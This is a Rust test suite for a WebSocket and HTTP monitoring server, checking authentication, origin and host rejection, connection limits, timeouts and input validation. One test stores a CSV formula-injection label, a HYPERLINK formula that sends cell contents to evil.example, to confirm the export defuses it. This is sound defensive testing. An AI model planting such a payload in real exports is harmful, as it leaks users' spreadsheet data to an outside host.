//! Who may connect, and what bad clients cannot do: against the real server on
//! port 0 with real WebSocket clients.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use futures_util::{SinkExt, StreamExt};
use server::cli::client::{ApiClient, Method};
use server::testkit::{
    Reply, Scratch, Sleeper, TestServer, call, connections, eventually, fast_config, next_metrics, raw_http,
};
use server::{Auth, Config, ServeError};
use shared::{ErrorCode, ServerMsg};
use tokio_tungstenite::connect_async;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::http::HeaderValue;
use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;
use tokio_tungstenite::tungstenite::{self, Message};

type Ws = server::testkit::Client;

const TOKEN: &str = "s3cret-token";
const JWT_SECRET: &str = "jwt-signing-key";

fn with_token() -> Config {
    Config { auth: Auth { token: Some(TOKEN.into()), jwt_secret: Some(JWT_SECRET.into()) }, ..fast_config() }
}

fn request(
    addr: SocketAddr,
    path: &str,
    headers: &[(&'static str, &str)],
) -> tungstenite::handshake::client::Request {
    let mut request = format!("ws://{addr}{path}").into_client_request().expect("request");
    for (name, value) in headers {
        request.headers_mut().insert(*name, HeaderValue::from_str(value).expect("header"));
    }
    request
}

async fn open(
    addr: SocketAddr,
    path: &str,
    headers: &[(&'static str, &str)],
) -> Result<Ws, tungstenite::Error> {
    connect_async(request(addr, path, headers)).await.map(|(ws, _)| ws)
}

/// The close code the server ends with, failing if any data message comes first.
async fn closed_with(ws: &mut Ws) -> (Option<CloseCode>, String) {
    let deadline = tokio::time::timeout(Duration::from_secs(5), async {
        while let Some(frame) = ws.next().await {
            match frame {
                Ok(Message::Close(close)) => {
                    return (
                        close.as_ref().map(|c| c.code),
                        close.map(|c| c.reason.to_string()).unwrap_or_default(),
                    );
                }
                Ok(Message::Text(text)) => panic!("no data before the refusal, got {text}"),
                Ok(_) => continue,
                Err(_) => return (None, String::new()),
            }
        }
        (None, String::new())
    });
    deadline.await.expect("closed within 5 s")
}

fn jwt(secret: &str, lifetime: i64) -> String {
    #[derive(serde::Serialize)]
    struct Claims {
        exp: i64,
        sub: &'static str,
    }
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or(0);
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &Claims { exp: now + lifetime, sub: "agent" },
        &jsonwebtoken::EncodingKey::from_secret(secret.as_bytes()),
    )
    .expect("sign")
}

#[tokio::test]
async fn off_loopback_the_server_refuses_to_start_without_auth() {
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.expect("bind");
    let result = server::run(listener, Config::default(), async {}).await;
    let Err(ServeError::Unauthenticated(addr)) = result else { panic!("expected a refusal, got {result:?}") };
    assert!(addr.ip().is_unspecified());
    // With a token it starts (and stops at once here).
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.expect("bind");
    server::run(listener, with_token(), async {}).await.expect("authenticated servers may listen anywhere");
}

#[test]
fn the_binary_refuses_a_public_bind_with_a_clear_message() {
    let out = server::testkit::Sandbox::new("public-bind")
        .command(env!("CARGO_BIN_EXE_perfmon"))
        .args(["serve", "--bind", "0.0.0.0:0"])
        .env_remove("PERFMON_TOKEN")
        .env_remove("PERFMON_JWT_SECRET")
        .output()
        .expect("run perfmon");
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("without authentication") && stderr.contains("--token"), "{stderr}");
}

#[tokio::test]
async fn the_stream_needs_a_valid_token_and_takes_it_three_ways() {
    let server = TestServer::start(with_token()).await;
    let addr = server.addr;
    let path = "/ws/projects/auth";

    // No token, a wrong one, an expired or foreign JWT: closed with 4001, no data.
    for (query, headers) in [
        ("", vec![]),
        ("?token=wrong", vec![]),
        ("", vec![("authorization", format!("Bearer {}", jwt(JWT_SECRET, -60)))]),
        ("", vec![("authorization", format!("Bearer {}", jwt("someone-else", 600)))]),
    ] {
        let headers: Vec<(&'static str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let mut ws = open(addr, &format!("{path}{query}"), &headers).await.expect("upgrade");
        let (code, reason) = closed_with(&mut ws).await;
        assert_eq!(code, Some(CloseCode::from(4001)), "{query} {headers:?}");
        assert!(!reason.is_empty());
    }

    // The right token as a query parameter, a bearer header, a subprotocol, or a JWT.
    let bearer = format!("Bearer {TOKEN}");
    let protocol = format!("perfmon, perfmon.token.{TOKEN}");
    let jwt_bearer = format!("Bearer {}", jwt(JWT_SECRET, 600));
    for (query, headers) in [
        (format!("?token={TOKEN}"), vec![]),
        (String::new(), vec![("authorization", bearer.as_str())]),
        (String::new(), vec![("sec-websocket-protocol", protocol.as_str())]),
        (String::new(), vec![("authorization", jwt_bearer.as_str())]),
    ] {
        let (mut ws, response) =
            connect_async(request(addr, &format!("{path}{query}"), &headers)).await.expect("upgrade");
        if headers.iter().any(|(k, _)| *k == "sec-websocket-protocol") {
            assert_eq!(
                response.headers().get("sec-websocket-protocol").and_then(|v| v.to_str().ok()),
                Some("perfmon"),
                "the server selects the perfmon subprotocol, never echoes the token"
            );
        }
        next_metrics(&mut ws).await;
    }
    server.stop().await;
}

#[tokio::test]
async fn the_api_and_metrics_answer_401_without_a_token() {
    let server = TestServer::start(with_token()).await;
    for path in ["/api/projects/x/run", "/api/projects/x/metrics", "/metrics"] {
        let (status, body) = call(&server.api(), Method::GET, path, None).await.expect_err("refused");
        assert_eq!(status, 401, "{path}");
        assert_eq!(body["code"], "unauthorized");
    }
    let authed = server.api().with_token(Some(TOKEN.into()));
    call(&authed, Method::GET, "/api/projects/x/run", None).await.expect("with a token");
    let wrong = server.api().with_token(Some("nope".into()));
    assert_eq!(call(&wrong, Method::GET, "/api/projects/x/run", None).await.map_err(|e| e.0), Err(401));
    // Health stays open: it tells nothing about the machine.
    call(&server.api(), Method::GET, "/api/health", None).await.expect("health is public");
    server.stop().await;
}

#[tokio::test]
async fn a_foreign_origin_is_refused_before_the_upgrade() {
    let config = Config { allowed_origins: vec!["https://ide.example.com".into()], ..fast_config() };
    let server = TestServer::start(config).await;
    let addr = server.addr;
    let err = open(addr, "/ws/projects/o", &[("origin", "https://evil.example")]).await.expect_err("refused");
    let tungstenite::Error::Http(response) = err else { panic!("expected an HTTP refusal, got {err:?}") };
    assert_eq!(response.status(), 403);

    let own = format!("http://{addr}");
    let mut ws = open(addr, "/ws/projects/o", &[("origin", own.as_str())]).await.expect("own origin");
    next_metrics(&mut ws).await;
    let mut ws =
        open(addr, "/ws/projects/o", &[("origin", "https://ide.example.com")]).await.expect("allowed");
    next_metrics(&mut ws).await;
    server.stop().await;
}

#[tokio::test]
async fn with_a_project_list_other_projects_get_4004() {
    let allowed = vec![server::ProjectName::parse("known").expect("name")];
    let server = TestServer::start(Config { projects: Some(allowed), ..fast_config() }).await;
    let mut ws = open(server.addr, "/ws/projects/unknown", &[]).await.expect("upgrade");
    assert_eq!(closed_with(&mut ws).await.0, Some(CloseCode::from(4004)));
    let mut ws = open(server.addr, "/ws/projects/known", &[]).await.expect("upgrade");
    next_metrics(&mut ws).await;
    // Nor is a run or tokens for another taken: it could never be watched.
    let api = server.api();
    let pid = std::process::id();
    for (path, body) in [
        ("/api/projects/unknown/run", serde_json::json!({ "pid": pid })),
        ("/api/projects/unknown/tokens", serde_json::json!({ "tokens": 5 })),
    ] {
        let (status, error) =
            server::testkit::call(&api, Method::POST, path, Some(body)).await.expect_err("refused");
        assert_eq!((status, error["code"].as_str()), (404, Some("unknown_project")), "{path}: {error}");
    }
    server.stop().await;
}

#[tokio::test]
async fn an_oversized_frame_closes_with_1009_and_nobody_else_notices() {
    let server = TestServer::start(fast_config()).await;
    let mut bystander = open(server.addr, "/ws/projects/big", &[]).await.expect("bystander");
    let mut ws = open(server.addr, "/ws/projects/big", &[]).await.expect("upgrade");
    ws.send(Message::Text("x".repeat(5 * 1024).into())).await.expect("send");
    let code = server::testkit::close_code_within(&mut ws, Duration::from_secs(10)).await;
    assert_eq!(code, Some(shared::close::MESSAGE_TOO_BIG));
    next_metrics(&mut bystander).await;
    next_metrics(&mut bystander).await;
    server.stop().await;
}

/// Waits until the server reports `want` open sockets.
async fn wait_for_connections(server: &TestServer, want: u64) {
    let api = server.api();
    let what = format!("{want} connections");
    eventually(Duration::from_secs(20), &what, || async { (connections(&api).await == want).then_some(()) })
        .await
}

#[tokio::test]
async fn past_the_connection_limit_upgrades_get_503_and_the_others_stream_on() {
    let server = TestServer::start(Config { max_connections: 3, ..fast_config() }).await;
    let mut open_ones = Vec::new();
    for _ in 0..3 {
        open_ones.push(open(server.addr, "/ws/projects/cap", &[]).await.expect("within the limit"));
    }
    let err = open(server.addr, "/ws/projects/cap", &[]).await.expect_err("over the limit");
    let tungstenite::Error::Http(response) = err else { panic!("expected an HTTP refusal, got {err:?}") };
    assert_eq!(response.status(), 503);
    for ws in &mut open_ones {
        next_metrics(ws).await;
    }
    drop(open_ones);
    wait_for_connections(&server, 0).await;
    open(server.addr, "/ws/projects/cap", &[]).await.expect("room again");
    server.stop().await;
}

#[tokio::test]
async fn a_client_that_goes_silent_is_dropped() {
    let config = Config {
        ping_interval: Duration::from_millis(300),
        client_timeout: Duration::from_secs(3),
        ..fast_config()
    };
    let server = TestServer::start(config).await;
    // Never polled: it answers no pings, like a hung browser tab.
    let silent = open(server.addr, "/ws/projects/quiet", &[]).await.expect("upgrade");
    // Polled: its library answers pings, so it stays.
    let mut lively = open(server.addr, "/ws/projects/quiet", &[]).await.expect("upgrade");
    wait_for_connections(&server, 2).await;
    let reader = tokio::spawn(async move {
        let mut n = 0;
        while let Some(Ok(_)) = lively.next().await {
            n += 1;
        }
        n
    });
    // The silent client is dropped; the lively one stays.
    wait_for_connections(&server, 1).await;
    drop(silent);
    server.stop().await;
    assert!(reader.await.expect("reader") > 3, "the lively client kept streaming");
}

#[tokio::test]
async fn a_connection_that_never_finishes_its_headers_is_closed() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let config = Config { header_read_timeout: Duration::from_millis(500), ..fast_config() };
    let server = TestServer::start(config).await;
    let started = std::time::Instant::now();
    // Half a request line, and a socket that sends nothing at all.
    let mut half = tokio::net::TcpStream::connect(server.addr).await.expect("connect");
    half.write_all(b"GET / HTTP/1.1\r\n").await.expect("write");
    let mut silent = tokio::net::TcpStream::connect(server.addr).await.expect("connect");
    for socket in [&mut half, &mut silent] {
        // The server closes it (an end of file, or a reset), never a hang.
        let mut rest = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(20), socket.read_to_end(&mut rest)).await;
        assert!(read.is_ok(), "still open after 20 s");
    }
    assert!(started.elapsed() >= Duration::from_millis(500), "closed before the deadline");
    // A client that does send its request in time is answered.
    let mut prompt = tokio::net::TcpStream::connect(server.addr).await.expect("connect");
    let request = format!("GET /api/health HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", server.addr);
    prompt.write_all(request.as_bytes()).await.expect("write");
    let mut answer = String::new();
    prompt.read_to_string(&mut answer).await.expect("an answer");
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    server.stop().await;
}

#[tokio::test]
async fn a_client_that_closes_gets_the_closing_handshake_back() {
    let server = TestServer::start(fast_config()).await;
    let mut ws = open(server.addr, "/ws/projects/bye", &[]).await.expect("upgrade");
    next_metrics(&mut ws).await;
    let bye = tungstenite::protocol::CloseFrame { code: CloseCode::Away, reason: "tab closed".into() };
    ws.close(Some(bye)).await.expect("close sent");
    // Frames already under way may come first; then the server's close, and
    // the end of the stream — never a reset without one.
    let answer = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            match ws.next().await {
                Some(Ok(Message::Close(frame))) => break Ok(frame),
                Some(Ok(_)) => continue,
                Some(Err(err)) => break Err(err.to_string()),
                None => break Err("the stream ended without a close".into()),
            }
        }
    })
    .await
    .expect("an answer within 10 s");
    // The client's code, echoed as RFC 6455 has it.
    assert_eq!(answer.map(|f| f.map(|f| f.code)), Ok(Some(CloseCode::Away)));
    server.stop().await;
}

#[tokio::test]
async fn abrupt_disconnects_leave_no_connection_behind() {
    let server = TestServer::start(fast_config()).await;
    let mut clients = Vec::new();
    for _ in 0..200 {
        clients.push(open(server.addr, "/ws/projects/abrupt", &[]).await.expect("upgrade"));
    }
    wait_for_connections(&server, 200).await;
    // Dropping a client closes its TCP socket without a close handshake.
    drop(clients);
    wait_for_connections(&server, 0).await;
    server.stop().await;
}

/// A source that panics on its first sample, then reads zeros.
struct Flaky(bool);

impl server::sampling::Source for Flaky {
    fn sample(&mut self, _run_pids: &[u32]) -> server::HostSample {
        assert!(!self.0, "simulated sampler crash");
        server::HostSample { taken_at: chrono::Utc::now(), ..Default::default() }
    }
}

#[tokio::test]
async fn a_crashed_sampler_is_restarted_and_clients_are_told() {
    let hub = server::hub_for(&fast_config());
    let shutdown = tokio_util::sync::CancellationToken::new();
    let project = server::ProjectName::parse("flaky").expect("name");
    let mut frames = hub.subscribe(&project).expect("subscribe").frames;
    let crashed = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let make = {
        let crashed = crashed.clone();
        // The first source made panics; the restarted one works.
        move || Flaky(!crashed.swap(true, std::sync::atomic::Ordering::SeqCst))
    };
    let sampler = tokio::spawn(server::sampling::run(hub.clone(), shutdown.clone(), make));

    let mut seen = Vec::new();
    while seen.len() < 2 {
        tokio::time::timeout(Duration::from_secs(10), frames.changed())
            .await
            .expect("a frame")
            .expect("open");
        let frame = frames.borrow_and_update().clone().expect("a frame");
        seen.push(serde_json::from_str::<ServerMsg>(frame.as_str()).expect("valid message"));
    }
    let ServerMsg::Error(err) = &seen[0] else { panic!("first the error, got {:?}", seen[0]) };
    assert_eq!(err.code, ErrorCode::SamplerRestarted);
    assert!(matches!(seen[1], ServerMsg::PerfMetrics(_)), "then data again");
    shutdown.cancel();
    sampler.await.expect("the sampler ends on shutdown");
}

#[tokio::test]
async fn perfmon_run_authenticates_with_its_token() {
    let server = TestServer::start(with_token()).await;
    let status = server
        .sandbox()
        .tokio_command(env!("CARGO_BIN_EXE_perfmon"))
        .args([
            "run",
            "--project",
            "tok",
            "--bind",
            &server.addr.to_string(),
            "--token",
            TOKEN,
            "--",
            "sleep",
            "1",
        ])
        .stderr(std::process::Stdio::piped())
        .output()
        .await
        .expect("run perfmon");
    let stderr = String::from_utf8_lossy(&status.stderr);
    assert!(status.status.success(), "{stderr}");
    assert!(!stderr.contains("not tracked"), "the run was registered: {stderr}");
    assert!(!stderr.contains(TOKEN), "the token is never printed");
    let run = call(
        &ApiClient::new(server.addr).with_token(Some(TOKEN.into())),
        Method::GET,
        "/api/projects/tok/run",
        None,
    )
    .await
    .expect("run");
    assert_eq!(run["status"], "stopped", "registered, then ended when the command exited");
    server.stop().await;
}

/// A server like `config` that keeps its history in `data`, a directory of the
/// test's own.
async fn with_store(config: Config, data: &Scratch) -> TestServer {
    let store = server::store::StoreConfig { dir: data.0.clone(), retention: Default::default() };
    TestServer::start(Config { store: Some(store), ..config }).await
}

/// `GET path` as a browser sends it: this server's own Host, no other credential.
async fn browser_get(server: &TestServer, path: &str) -> Reply {
    let host = format!("127.0.0.1:{}", server.addr.port());
    raw_http(server.addr, "GET", path, &[("host", host.as_str())], None).await
}

/// Waits until the store lists `run_id` among `project`'s runs; its record.
async fn stored_run(api: &ApiClient, project: &str, run_id: &str) -> serde_json::Value {
    let path = format!("/api/projects/{project}/runs");
    eventually(Duration::from_secs(20), "the run is stored", || async {
        let page = call(api, Method::GET, &path, None).await.ok()?;
        page["runs"].as_array()?.iter().find(|r| r["run_id"] == run_id).cloned()
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_in_the_query_opens_history_and_every_csv_download() {
    let data = Scratch::new("security-token-csv");
    let server = with_store(with_token(), &data).await;
    let bearer = ApiClient::new(server.addr).with_token(Some(TOKEN.into()));
    let sleeper = Sleeper::start();
    let label = r#"=HYPERLINK("http://evil.example/?d="&A1,"open me")"#;
    let body = serde_json::json!({ "pid": sleeper.0.id(), "label": label });
    let run = call(&bearer, Method::POST, "/api/projects/csv/run", Some(body)).await.expect("registered");
    let run_id = run["run_id"].as_str().expect("a run id").to_owned();
    call(&bearer, Method::DELETE, "/api/projects/csv/run", None).await.expect("ended");
    assert_eq!(stored_run(&bearer, "csv", &run_id).await["label"], label, "JSON keeps the label as given");

    let now = chrono::Utc::now();
    let span = |t: chrono::DateTime<chrono::Utc>| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let history =
        format!("/api/history?from={}&to={}&step=1", span(now - chrono::Duration::minutes(5)), span(now));
    let report = format!("/api/projects/csv/runs/{}?format=csv", run_id.replace(':', "%3A"));
    for (path, csv) in [
        (history.clone(), false),
        (format!("{history}&format=csv"), true),
        ("/api/projects/csv/runs".to_owned(), false),
        ("/api/projects/csv/runs?format=csv".to_owned(), true),
        // The report page's Download CSV link.
        (report.clone(), true),
    ] {
        let sep = if path.contains('?') { '&' } else { '?' };
        let reply = browser_get(&server, &format!("{path}{sep}token={TOKEN}")).await;
        assert_eq!(reply.status, 200, "{path} with ?token=: {}", reply.text());
        let kind = reply.header("content-type").unwrap_or_default();
        assert_eq!(kind.starts_with("text/csv"), csv, "{path}: {kind}");
        let wrong = browser_get(&server, &format!("{path}{sep}token=wrong")).await;
        assert_eq!(wrong.status, 401, "{path} with a wrong token: {}", wrong.text());
        let none = browser_get(&server, &path).await;
        assert_eq!(none.status, 401, "{path} without a token: {}", none.text());
    }
    // A typo is still refused by name, token or not.
    let typo = browser_get(&server, &format!("/api/history?stpe=60&token={TOKEN}")).await;
    assert_eq!(typo.status, 400, "{}", typo.text());
    let error: shared::api::ApiError = serde_json::from_str(&typo.text()).expect("the one error shape");
    assert_eq!((error.code.as_str(), error.field.as_deref()), ("unknown_parameter", Some("stpe")));
    // So is any parameter where an endpoint takes none (the token aside).
    for path in ["/api/settings", "/api/projects/csv/run"] {
        assert_eq!(browser_get(&server, &format!("{path}?token={TOKEN}")).await.status, 200, "{path}");
        let typo = browser_get(&server, &format!("{path}?x=1&token={TOKEN}")).await;
        assert_eq!(typo.status, 400, "{path}: {}", typo.text());
        let error: shared::api::ApiError = serde_json::from_str(&typo.text()).expect("the one error shape");
        assert_eq!((error.code.as_str(), error.field.as_deref()), ("unknown_parameter", Some("x")), "{path}");
    }
    // A parameter given twice is named, in plain words.
    let twice = browser_get(&server, &format!("/api/projects/csv/runs?limit=1&limit=2&token={TOKEN}")).await;
    let error: shared::api::ApiError = serde_json::from_str(&twice.text()).expect("the one error shape");
    assert_eq!((twice.status, error.message.as_str()), (400, "limit: given more than once"));

    // The label reaches a spreadsheet as text, not as a formula.
    let reply = browser_get(&server, &format!("/api/projects/csv/runs?format=csv&token={TOKEN}")).await;
    let mut reader = csv::Reader::from_reader(&reply.bytes[..]);
    let header = reader.headers().expect("a header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let row = reader
        .records()
        .map(|r| r.expect("a CSV row"))
        .find(|r| r.get(column("run_id")) == Some(run_id.as_str()))
        .expect("the run's row");
    assert_eq!(row.get(column("label")), Some(format!("'{label}").as_str()));
    assert_eq!(row.get(column("pid")), Some(sleeper.0.id().to_string().as_str()), "numbers stay as they are");
    server.stop().await;
}

/// Posts every exit report that cannot be true to `path`: each is refused with
/// 400, naming its field.
async fn refuse_impossible_exits(api: &ApiClient, path: &str) {
    for (body, field) in [
        (serde_json::json!({ "signal": -99999 }), "signal"),
        (serde_json::json!({ "signal": 0 }), "signal"),
        (serde_json::json!({ "exit_code": -5 }), "exit_code"),
        (serde_json::json!({ "exit_code": 256 }), "exit_code"),
        (serde_json::json!({ "exit_code": 0, "signal": 9 }), "exit_code"),
        (serde_json::json!({}), "exit_code"),
    ] {
        let (status, error) = call(api, Method::POST, path, Some(body.clone())).await.expect_err("refused");
        assert_eq!(status, 400, "{body}: {error}");
        assert_eq!(
            (error["code"].as_str(), error["field"].as_str()),
            (Some("invalid_value"), Some(field)),
            "{body}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exit_report_that_cannot_be_true_is_refused_and_changes_nothing() {
    let data = Scratch::new("security-exit");
    let server = with_store(fast_config(), &data).await;
    let api = server.api();
    let register = |sleeper: &Sleeper| {
        let body = serde_json::json!({ "pid": sleeper.0.id() });
        let api = api.clone();
        async move {
            let run =
                call(&api, Method::POST, "/api/projects/exits/run", Some(body)).await.expect("registered");
            run["run_id"].as_str().expect("a run id").to_owned()
        }
    };

    // A live run: refused, and it goes on.
    let first = Sleeper::start();
    let run_id = register(&first).await;
    let exit = format!("/api/projects/exits/runs/{}/exit", run_id.replace(':', "%3A"));
    refuse_impossible_exits(&api, &exit).await;
    let live = call(&api, Method::GET, "/api/projects/exits/run", None).await.expect("the run");
    assert_eq!(live["status"], "running", "the run is still live: {live}");
    call(&api, Method::DELETE, "/api/projects/exits/run", None).await.expect("ended");

    // Once another run has ended after it, the hub holds it no more and the
    // exit goes to the store: refused there too, and the record is unchanged.
    let second = Sleeper::start();
    register(&second).await;
    call(&api, Method::DELETE, "/api/projects/exits/run", None).await.expect("ended");
    let before = stored_run(&api, "exits", &run_id).await;
    assert!(before["exit_code"].is_null() && before["signal"].is_null(), "{before}");
    refuse_impossible_exits(&api, &exit).await;
    let report = format!("/api/projects/exits/runs/{}", run_id.replace(':', "%3A"));
    let stored = call(&api, Method::GET, &report, None).await.expect("the report");
    assert_eq!(stored["run"], before, "the stored run is unchanged");
    // A true report is taken, so the refusals above were not the only answer.
    call(&api, Method::POST, &exit, Some(serde_json::json!({ "exit_code": 3 }))).await.expect("accepted");
    eventually(Duration::from_secs(20), "the exit code is stored", || async {
        let stored = call(&api, Method::GET, &report, None).await.ok()?;
        (stored["run"]["exit_code"] == 3).then_some(())
    })
    .await;
    server.stop().await;
}

/// One request written byte for byte (a Host that is not text, none at all):
/// the status and body of the answer.
async fn raw_request(addr: SocketAddr, request: &[u8]) -> (u16, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(request).await.expect("send");
    let mut response = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut response))
        .await
        .expect("answered and closed in time")
        .expect("read");
    let text = String::from_utf8_lossy(&response).into_owned();
    let status = text.split_whitespace().nth(1).and_then(|s| s.parse().ok()).expect("an HTTP status");
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_owned()).unwrap_or_default();
    (status, body)
}

#[tokio::test]
async fn a_request_without_a_readable_host_is_refused_like_a_foreign_one() {
    let server = TestServer::start(fast_config()).await;
    let own = format!("127.0.0.1:{}", server.addr.port());
    let request = |version: &str, host: Option<&[u8]>| {
        let mut bytes =
            format!("GET /api/projects/demo/metrics HTTP/{version}\r\nconnection: close\r\n").into_bytes();
        if let Some(host) = host {
            bytes.extend_from_slice(b"host: ");
            bytes.extend_from_slice(host);
            bytes.extend_from_slice(b"\r\n");
        }
        bytes.extend_from_slice(b"\r\n");
        bytes
    };
    let not_text =
        [b"attacker.example:".as_slice(), server.addr.port().to_string().as_bytes(), b"\xff"].concat();
    for (what, bytes) in [
        ("HTTP/1.1 without a Host", request("1.1", None)),
        ("HTTP/1.0 without a Host", request("1.0", None)),
        ("a Host that is not text", request("1.1", Some(&not_text))),
    ] {
        let (status, body) = raw_request(server.addr, &bytes).await;
        assert_eq!(status, 403, "{what}: {body}");
        let error: shared::api::ApiError = serde_json::from_str(&body).expect("the one error shape");
        assert_eq!(error.code, "host_not_allowed", "{what}");
        assert!(error.message.contains("--allowed-host"), "{what}: names the flag: {}", error.message);
    }
    // The same request naming this server is answered.
    let (status, body) = raw_request(server.addr, &request("1.1", Some(own.as_bytes()))).await;
    assert_ne!(status, 403, "{body}");
    server.stop().await;
}
